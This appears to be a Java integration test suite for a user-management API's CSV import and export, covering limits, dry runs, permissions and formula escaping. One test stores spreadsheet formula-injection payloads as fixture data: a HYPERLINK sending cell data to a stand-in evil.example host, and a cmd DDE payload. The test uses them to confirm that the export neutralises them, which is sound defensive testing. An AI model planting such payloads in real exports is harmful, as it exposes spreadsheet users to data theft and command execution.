package io.roster.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.roster.support.Api;
import io.roster.support.Fixtures;
import io.roster.support.IntegrationTest;
import io.roster.support.Operator;
import io.roster.support.TestDatabase;
import java.io.StringReader;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/** docs/rules.md §15: CSV import and export of the Users table over real HTTP. */
@IntegrationTest
class UsersCsvIntegrationTests {

    static final String LICENSE_REFUSAL = "No license available: 2501 of 2501 in use";

    @LocalServerPort
    int port;

    @Autowired
    JdbcClient jdbc;

    Api api;
    CsvHttp csv;
    Fixtures fixtures;
    final List<String> mailDomains = new ArrayList<>();

    @BeforeEach
    void signIn() {
        api = Api.at(port).signIn(Operator.EMAIL, Operator.PASSWORD);
        csv = CsvHttp.signIn(port, Operator.EMAIL, Operator.PASSWORD);
        fixtures = new Fixtures(api);
    }

    @Test
    void ten_thousand_rows_with_invalid_ones_are_all_kept_each_with_its_result_and_licenses_never_exceeded() {
        String company = fixtures.company(2501);
        fixtures.createUser(company, Fixtures.validUser("ACTIVE"));
        String takenUserId = fixtures.createUser(fixtures.company(1), Fixtures.validUser("ACTIVE")).text("userId");
        BigFile file = BigFile.of(Fixtures.unique("imp").toLowerCase(), takenUserId);
        mailDomains.add(file.domain());

        long started = System.nanoTime();
        var response = csv.post(importPath(company), "text/csv; charset=utf-8", file.text());
        long millis = Duration.ofNanos(System.nanoTime() - started).toMillis();
        System.out.printf("[csv-timing] 10,000-row import on %s: %d ms%n", TestDatabase.isPostgres() ? "postgresql" : "h2",
                millis);

        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        JsonNode report = response.json();
        assertThat(report.get("rows").asInt()).isEqualTo(10_000);
        assertThat(report.get("activated").asInt()).isEqualTo(2500);
        assertThat(report.get("drafts").asInt()).isEqualTo(7500);
        assertThat(report.get("dryRun").asBoolean()).isFalse();
        Map<String, Long> byResult = new TreeMap<>();
        Map<Integer, JsonNode> byLine = new TreeMap<>();
        report.get("errors").forEach(error -> {
            byResult.merge(error.get("validationResult").asString(), 1L, Long::sum);
            byLine.put(error.get("line").asInt(), error);
        });
        assertThat(byResult).containsExactlyInAnyOrderEntriesOf(Map.of(
                "Email is invalid", 200L,
                "User ID already taken", 400L,
                "Email already in use by another account", 200L,
                "Role 'NO_SUCH_ROLE' does not exist in this company", 200L,
                LICENSE_REFUSAL, 4500L));
        assertThat(byLine.get(file.line(2003)).get("userId").asString()).isEqualTo(file.userId(2002));
        assertThat(byLine.get(file.line(2003)).get("validationResult").asString()).isEqualTo("User ID already taken");
        assertThat(byLine).doesNotContainKey(file.line(2002));

        assertThat(count("SELECT COUNT(*) FROM accounts WHERE home_company_id = ?", company)).isEqualTo(10_001);
        assertThat(count("SELECT COUNT(*) FROM accounts WHERE home_company_id = ? AND status = 'ACTIVE'", company))
                .isEqualTo(2501);
        JsonNode seats = api.get("/api/v1/companies/" + company).json();
        assertThat(seats.get("licensesUsed").asInt()).isEqualTo(2501).isEqualTo(seats.get("licensesPurchased").asInt());
        Set<String> stored = new HashSet<>(jdbc.sql("SELECT user_id FROM accounts WHERE home_company_id = ?")
                .param(company).query(String.class).list());
        assertThat(stored).containsAll(file.userIds());

        assertThat(statusAndResult(company, file.userId(file.firstCandidate()))).isEqualTo("ACTIVE OK");
        // stored as codes (docs/rules.md §2), worded only when shown
        assertThat(statusAndResult(company, file.userId(file.lastCandidate())))
                .isEqualTo("DRAFT NO_LICENSE:used=2501,purchased=2501");
        assertThat(statusAndResult(company, file.userId(0))).isEqualTo("DRAFT null");
        assertThat(statusAndResult(company, file.userId(2000))).isEqualTo("DRAFT EMAIL_INVALID");
        assertThat(jdbc.sql("SELECT last_name FROM accounts WHERE home_company_id = ? AND user_id = ?")
                .params(company, file.userId(2006)).query(String.class).single()).isEqualTo("Doe; \"Jr\"");
        assertThat(count("SELECT COUNT(*) FROM role_assignments WHERE company_id = ? AND role_id = 'MEMBER'", company))
                .isEqualTo(8000);
        assertThat(count("SELECT COUNT(*) FROM role_assignments WHERE company_id = ? AND role_id <> 'MEMBER'", company))
                .isZero();
        assertThat(count("SELECT COUNT(*) FROM mail_outbox WHERE kind = 'ACCOUNT_SETUP' AND recipient LIKE ?",
                "%@" + file.domain())).isEqualTo(2500);
    }

    @Test
    void a_dry_run_writes_nothing_and_reports_what_the_import_then_does() {
        String company = fixtures.company(40);
        String takenUserId = fixtures.createUser(fixtures.company(1), Fixtures.validUser("ACTIVE")).text("userId");
        BigFile file = BigFile.of(Fixtures.unique("dry").toLowerCase(), takenUserId, 100, 400);
        mailDomains.add(file.domain());
        long mails = count("SELECT COUNT(*) FROM mail_outbox");

        var dryRun = csv.post(importPath(company) + "?dryRun=true", "text/csv", file.text());

        assertThat(dryRun.status()).as(dryRun.toString()).isEqualTo(200);
        assertThat(dryRun.json().get("dryRun").asBoolean()).isTrue();
        assertThat(count("SELECT COUNT(*) FROM accounts WHERE home_company_id = ?", company)).isZero();
        assertThat(count("SELECT COUNT(*) FROM role_assignments WHERE company_id = ?", company)).isZero();
        assertThat(count("SELECT COUNT(*) FROM mail_outbox")).isEqualTo(mails);
        assertThat(api.get("/api/v1/companies/" + company).json().get("licensesUsed").asInt()).isZero();

        var real = csv.post(importPath(company), "text/csv", file.text());

        assertThat(real.status()).as(real.toString()).isEqualTo(200);
        assertThat(real.json().get("activated").asInt()).isEqualTo(40);
        for (String field : List.of("rows", "activated", "drafts", "errors")) {
            assertThat(dryRun.json().get(field)).as(field).isEqualTo(real.json().get(field));
        }
        assertThat(count("SELECT COUNT(*) FROM accounts WHERE home_company_id = ?", company)).isEqualTo(400);
    }

    @Test
    void a_multipart_upload_in_the_field_file_is_imported_and_its_roles_granted() {
        String company = fixtures.company(5);
        String handle = Fixtures.unique("mp").toLowerCase();
        String file = "\uFEFFuserId;firstName;lastName;email;status;roles\r\n"
                + handle + ";Ada;\"Love; lace\";" + handle + "@example.com;active;member|auditor\r\n"
                + handle + "-2;Bob;B;" + handle + "-2@example.com;;\r\n";

        var response = csv.multipart(importPath(company), "users.csv", file);

        assertThat(response.status()).as(response.toString()).isEqualTo(200);
        assertThat(response.json().get("rows").asInt()).isEqualTo(2);
        assertThat(response.json().get("activated").asInt()).isEqualTo(1);
        assertThat(response.json().get("errors")).isEmpty();
        JsonNode ada = api.get("/api/v1/companies/" + company + "/users?q=" + handle + "&sort=userId").json().get("items").get(0);
        assertThat(ada.get("lastName").asString()).isEqualTo("Love; lace");
        assertThat(ada.get("status").asString()).isEqualTo("ACTIVE");
        assertThat(ada.get("roles").toString()).isEqualTo("[\"AUDITOR\",\"MEMBER\"]");
    }

    @Test
    void an_upload_over_the_size_limit_is_refused_with_413_saying_the_limit_and_nothing_is_imported() {
        String company = fixtures.company(5);
        StringBuilder big = new StringBuilder("userId,email,firstName\n");
        String filler = "x".repeat(200);
        for (int i = 0; big.length() <= 10 * 1024 * 1024 + 1024; i++) {
            big.append("big").append(i).append(",big").append(i).append("@example.com,").append(filler).append('\n');
        }

        var body = csv.post(importPath(company), "text/csv", big.toString());
        var upload = csv.multipart(importPath(company), "big.csv", big.toString());

        for (var refused : List.of(body, upload)) {
            assertThat(refused.status()).as(refused.toString()).isEqualTo(413);
            assertThat(refused.contentType()).startsWith("application/problem+json");
            assertThat(refused.json().get("detail").asString()).startsWith("The file is larger than 10 MiB")
                    .contains("split it");
        }
        assertThat(count("SELECT COUNT(*) FROM accounts WHERE home_company_id = ?", company)).isZero();
    }

    @Test
    void more_rows_than_the_limit_are_refused_with_413() {
        String company = fixtures.company(5);
        StringBuilder many = new StringBuilder("userId,email\n");
        for (int i = 0; i <= 50_000; i++) {
            many.append('r').append(i).append(",r").append(i).append("@x.io\n");
        }

        var refused = csv.post(importPath(company), "text/csv", many.toString());

        assertThat(refused.status()).as(refused.toString()).isEqualTo(413);
        assertThat(refused.json().get("detail").asString()).startsWith("The file has more than 50000 rows");
        assertThat(count("SELECT COUNT(*) FROM accounts WHERE home_company_id = ?", company)).isZero();
    }

    @Test
    void a_wrong_header_is_refused_with_400_naming_the_columns() {
        String company = fixtures.company(5);

        var unknown = csv.post(importPath(company), "text/csv", "userId,email,Phone\nu1,u1@example.com,1\n");
        var missing = csv.post(importPath(company), "text/csv", "userId,firstName\nu1,Ada\n");
        var notUtf8 = csv.postBytes(importPath(company), "text/csv", "userId,email,firstName\nu1,u@x.io,Zo\u00e9\n"
                .getBytes(java.nio.charset.StandardCharsets.ISO_8859_1));

        assertThat(unknown.status()).isEqualTo(400);
        assertThat(unknown.json().get("detail").asString()).startsWith("Unknown column 'Phone': the columns are");
        assertThat(missing.status()).isEqualTo(400);
        assertThat(missing.json().get("detail").asString()).endsWith("missing: email");
        assertThat(notUtf8.status()).isEqualTo(400);
        assertThat(notUtf8.json().get("detail").asString()).contains("not UTF-8");
        assertThat(csv.post(importPath(company), "application/json", "{}").status()).isEqualTo(415);
    }

    @Test
    void importing_needs_users_manage_and_every_role_named_must_be_grantable_by_the_caller() {
        String company = fixtures.company(10);
        String password = "a long password for csv tests";
        Map<String, Object> manager = Fixtures.with(Fixtures.userWithPassword("ACTIVE", password), "roles",
                List.of("USER_MANAGER"));
        Map<String, Object> auditor = Fixtures.with(Fixtures.userWithPassword("ACTIVE", password), "roles",
                List.of("AUDITOR"));
        fixtures.createUser(company, manager);
        fixtures.createUser(company, auditor);
        CsvHttp asManager = CsvHttp.signIn(port, (String) manager.get("userId"), password);
        CsvHttp asAuditor = CsvHttp.signIn(port, (String) auditor.get("userId"), password);
        String handle = Fixtures.unique("esc").toLowerCase();
        String escalation = "userId,email,firstName,lastName,status,roles\n" + handle + "," + handle
                + "@example.com,Eve,E,ACTIVE,ADMINISTRATOR\n";

        var refused = asManager.post(importPath(company), "text/csv", escalation);
        var auditorImport = asAuditor.post(importPath(company), "text/csv", escalation.replace("ADMINISTRATOR", "MEMBER"));
        var auditorExport = asAuditor.get(exportPath(company));
        var allowed = asManager.post(importPath(company), "text/csv", escalation.replace("ADMINISTRATOR", "MEMBER"));

        assertThat(refused.status()).as(refused.toString()).isEqualTo(403);
        assertThat(refused.json().get("detail").asString()).contains("cannot grant the role 'Administrator'");
        assertThat(auditorImport.status()).isEqualTo(403);
        assertThat(auditorImport.json().get("detail").asString()).contains("users.manage");
        assertThat(auditorExport.status()).isEqualTo(200);
        assertThat(allowed.status()).as(allowed.toString()).isEqualTo(200);
        assertThat(count("SELECT COUNT(*) FROM accounts WHERE home_company_id = ?", company)).isEqualTo(3);
        assertThat(CsvHttp.signIn(port, Operator.EMAIL, Operator.PASSWORD).get(exportPath(fixtures.company(1)))
                .status()).isEqualTo(200);
        assertThat(asAuditor.get(exportPath(fixtures.company(1))).status()).isEqualTo(404);
    }

    @Test
    void the_export_neutralises_formula_cells_and_re_imports_to_the_same_values() {
        String company = fixtures.company(5);
        String tag = Fixtures.unique("x").toLowerCase();
        List<String> nasty = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1", "-2", "@SUM(A1:A9)",
                "=cmd|' /C calc'!A0");
        List<String> ids = new ArrayList<>();
        for (int i = 0; i < nasty.size(); i++) {
            ids.add(fixtures.createUser(company, Map.of("userId", tag + "-" + i, "firstName", nasty.get(i),
                    "lastName", nasty.get((i + 1) % nasty.size()), "email", nasty.get((i + 2) % nasty.size()),
                    "status", "DRAFT")).text("id"));
        }
        // No entry path stores a leading tab or CR (values are trimmed), so such cells are written directly.
        jdbc.sql("UPDATE accounts SET first_name = ?, last_name = ? WHERE id = ?").params("\t=1+1", "\r=2+2", ids.get(0))
                .update();
        Map<String, Object> member = Fixtures.with(Fixtures.validUser("ACTIVE"), "roles", List.of("MEMBER", "AUDITOR"));
        fixtures.createUser(company, member);
        String outsider = fixtures.createUser(fixtures.company(1), Fixtures.validUser("ACTIVE")).text("id");
        api.post("/api/v1/companies/" + company + "/users/" + outsider + "/roles", Map.of("roleId", "MEMBER"));

        var export = csv.get(exportPath(company));

        assertThat(export.status()).as(export.toString()).isEqualTo(200);
        assertThat(export.contentType()).startsWith("text/csv");
        String slug = api.get("/api/v1/companies/" + company).text("slug");
        assertThat(export.header("Content-Disposition")).startsWith("attachment; filename=\"users-" + slug + "-")
                .endsWith(".csv\"");
        assertThat(export.body()).startsWith("\uFEFFuserId,firstName,lastName,email,status,external,validationResult,roles\r\n");
        List<CSVRecord> records = parse(export.body().substring(1));
        assertThat(records).hasSize(nasty.size() + 2);
        for (CSVRecord record : records) {
            for (String cell : record) {
                assertThat(cell).as("cell of " + record).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
        CSVRecord first = records.stream().filter(r -> r.get("userId").equals(tag + "-0")).findFirst().orElseThrow();
        assertThat(first.get("firstName")).isEqualTo("'\t=1+1");
        assertThat(first.get("lastName")).isEqualTo("'\r=2+2");
        assertThat(first.get("email")).isEqualTo("'" + nasty.get(2));
        CSVRecord second = records.stream().filter(r -> r.get("userId").equals(tag + "-1")).findFirst().orElseThrow();
        assertThat(second.get("firstName")).isEqualTo("'+1");
        assertThat(second.get("status")).isEqualTo("DRAFT");
        assertThat(second.get("external")).isEqualTo("false");
        CSVRecord active = records.stream().filter(r -> r.get("userId").equals(member.get("userId"))).findFirst().orElseThrow();
        assertThat(active.get("roles")).isEqualTo("AUDITOR|MEMBER");
        assertThat(active.get("validationResult")).isEqualTo("OK");
        assertThat(records.stream().filter(r -> r.get("external").equals("true")).map(r -> r.get("roles")).toList())
                .containsExactly("MEMBER");

        String copy = fixtures.company(5);
        var reimport = csv.post(importPath(copy), "text/csv", export.body());

        assertThat(reimport.status()).as(reimport.toString()).isEqualTo(200);
        assertThat(reimport.json().get("rows").asInt()).isEqualTo(records.size());
        for (int i = 1; i < nasty.size(); i++) {
            assertThat(jdbc.sql("SELECT first_name || '|' || last_name || '|' || email FROM accounts"
                            + " WHERE home_company_id = ? AND user_id = ?").params(copy, tag + "-" + i)
                    .query(String.class).single())
                    .isEqualTo(nasty.get(i) + "|" + nasty.get((i + 1) % nasty.size()) + "|" + nasty.get((i + 2) % nasty.size()));
        }
        // Imported values are trimmed like any typed value: the leading tab and CR go.
        assertThat(jdbc.sql("SELECT first_name || '|' || last_name FROM accounts WHERE home_company_id = ? AND user_id = ?")
                .params(copy, tag + "-0").query(String.class).single()).isEqualTo("=1+1|=2+2");
    }

    @Test
    void an_empty_table_exports_only_the_header() {
        var export = csv.get(exportPath(fixtures.company(1)));

        assertThat(export.status()).isEqualTo(200);
        assertThat(export.body()).isEqualTo("\uFEFFuserId,firstName,lastName,email,status,external,validationResult,roles\r\n");
    }

    @Test
    void the_openapi_document_describes_the_csv_body_and_answer() {
        JsonNode paths = Api.at(port).get("/v3/api-docs").json().get("paths");

        JsonNode importing = paths.get("/api/v1/companies/{companyId}/users/import").get("post");
        assertThat(importing.get("requestBody").get("content").propertyNames()).contains("text/csv", "multipart/form-data");
        assertThat(paths.get("/api/v1/companies/{companyId}/users/export").get("get").get("responses").get("200")
                .get("content").propertyNames()).contains("text/csv");
    }

    private static List<CSVRecord> parse(String text) {
        try (var parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text))) {
            return parser.getRecords();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    /**
     * The PostgreSQL pass shares one database between test contexts, and each context's dispatcher
     * delivers 20 mails a second: thousands of setup mails left pending would delay the mails other
     * tests wait for by minutes. They were counted; nobody is to receive them.
     */
    @AfterEach
    void forgetMails() {
        mailDomains.forEach(domain -> jdbc.sql("DELETE FROM mail_outbox WHERE recipient LIKE ?").param("%@" + domain).update());
    }

    private String statusAndResult(String company, String userId) {
        return jdbc.sql("SELECT status, validation_result FROM accounts WHERE home_company_id = ? AND user_id = ?")
                .params(company, userId).query((rs, n) -> rs.getString(1) + " " + rs.getString(2)).single();
    }

    private long count(String sql, Object... params) {
        return jdbc.sql(sql).params(params).query(Long.class).single();
    }

    private static String importPath(String company) {
        return "/api/v1/companies/" + company + "/users/import";
    }

    private static String exportPath(String company) {
        return "/api/v1/companies/" + company + "/users/export";
    }

    /**
     * A file of {@code size} rows (line = index + 2): the first {@code drafts} ask for DRAFT in the
     * three ways people write it; each block of 40 after them holds one bad email, one taken userId,
     * one duplicate userId and one duplicate email of an earlier row, one unknown role, and 35
     * complete rows that ask to be ACTIVE. Separated by ';' behind a BOM, some cells quoted.
     */
    record BigFile(String tag, String takenUserId, int drafts, int size) {

        static BigFile of(String tag, String takenUserId) {
            return of(tag, takenUserId, 2000, 10_000);
        }

        static BigFile of(String tag, String takenUserId, int drafts, int size) {
            return new BigFile(tag, takenUserId, drafts, size);
        }

        String domain() {
            return tag + ".example";
        }

        int line(int index) {
            return index + 2;
        }

        int kind(int index) {
            return index < drafts ? -1 : index % 40;
        }

        String userId(int index) {
            return switch (kind(index)) {
                case 1 -> takenUserId;
                case 3 -> userId(index - 1);
                default -> "u" + index + "-" + tag;
            };
        }

        String email(int index) {
            return switch (kind(index)) {
                case 0 -> "not-an-email-" + index;
                case 4 -> email(index - 2).toUpperCase();
                default -> "u" + index + "@" + domain();
            };
        }

        boolean candidate(int index) {
            int kind = kind(index);
            return kind == 2 || kind >= 6;
        }

        /** The first candidate whose userId no later row repeats. */
        int firstCandidate() {
            return java.util.stream.IntStream.range(0, size).filter(i -> kind(i) >= 6).findFirst().orElseThrow();
        }

        /** The last candidate of the file: with fewer seats than candidates it finds none left. */
        int lastCandidate() {
            return java.util.stream.IntStream.range(0, size).filter(this::candidate).max().orElseThrow();
        }

        Set<String> userIds() {
            return java.util.stream.IntStream.range(0, size).mapToObj(this::userId).collect(Collectors.toSet());
        }

        String text() {
            StringBuilder text = new StringBuilder("\uFEFFUserId;FIRSTNAME;lastName;email;status;roles\r\n");
            for (int i = 0; i < size; i++) {
                String status = kind(i) < 0 ? List.of("DRAFT", "", "draft").get(i % 3) : "ACTIVE";
                String roles = kind(i) < 0 ? "" : kind(i) == 5 ? "MEMBER NO_SUCH_ROLE" : "MEMBER";
                String lastName = i % 7 == 0 || i == 2006 ? "\"Doe; \"\"Jr\"\"\"" : "Doe";
                text.append(userId(i)).append(';').append("Jean ").append(i).append(';').append(lastName).append(';')
                        .append(email(i)).append(';').append(status).append(';').append(roles).append("\r\n");
            }
            return text.toString();
        }
    }
}
